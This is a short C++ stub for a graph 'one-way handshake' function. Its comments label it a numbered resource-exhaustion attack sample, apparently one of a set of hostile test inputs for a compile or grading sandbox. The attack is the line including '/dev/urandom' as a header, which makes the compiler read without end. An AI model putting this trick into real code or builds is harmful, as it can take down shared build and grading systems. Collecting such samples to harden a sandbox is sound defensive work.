// attack: exhaust
// root: resources
// what: a header without an end
// list: 10
#include <cstdio>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

#include "/dev/urandom"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {

}
